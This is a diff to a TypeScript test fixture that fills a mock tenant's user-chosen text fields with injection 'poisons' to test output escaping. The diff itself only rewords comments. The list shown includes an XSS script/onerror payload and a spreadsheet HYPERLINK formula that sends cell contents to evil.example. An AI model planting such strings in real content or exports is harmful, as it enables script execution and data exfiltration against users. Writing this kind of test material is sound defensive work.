@@ -1,6 +1,9 @@
-// A tenant whose every text that a stranger may choose is chosen by one: names, subjects, titles, devices, folders, files.
+// A tenant in which an attacker has chosen every text that strangers may choose: names, subjects, titles, devices,
+// folders, files.
 
-/** Each breaks out of something else: markup, quotes, a line, a cell, a command, a terminal, a reader’s eye. */
+/**
+ * Each tries to break out of something: markup, quotes, a line, a cell, a command, a terminal, or what the reader sees.
+ */
 export const poisons: readonly string[] = [
   '<script>alert(1)</script><img src=x onerror=alert(1)>"\'</style></title>-->',
   '=HYPERLINK("https://evil.example/?"&A1,"open")',
@@ -23,7 +26,10 @@ export const poisons: readonly string[] = [
   '| a | b |\n|---|---|\n**bold** _it_ `code`',
 ];
 
-/** What people, programs and foreign services may call a thing. Ids, addresses, times and words of the services stay. */
+/**
+ * Everything that people, programs and foreign services may name. Ids, addresses, times and the services' own words
+ * stay.
+ */
 const freeTexts: readonly string[] = [
   // Names of people, groups, applications, devices.
   ...[
@@ -51,7 +57,9 @@ const freeTexts: readonly string[] = [
 ];
 const free = new Set(freeTexts);
 
-/** Replaces each free text by the next poison, beginning at `turn`, so that over the turns each field gets each of them. */
+/**
+ * Replaces each free text by the next poison, beginning at `turn`, so that each field gets each poison over the turns.
+ */
 export function poisoned(
   tenant: unknown,
   turn: number,
@@ -61,7 +69,7 @@ export function poisoned(
   const swap = (value: unknown, key: string, isKnownByName: boolean): unknown => {
     if (Array.isArray(value)) return value.map((entry: unknown) => swap(entry, key, isKnownByName));
     if (value !== null && typeof value === 'object') {
-      // Without an id, other parts of the file point to it by its name.
+      // Without an id, other parts of the file refer to it by name.
       const byName = /^(groups|applications|servicePrincipals)$/.test(key) && !('id' in value);
       return Object.fromEntries(
         Object.entries(value).map(([name, entry]) => [
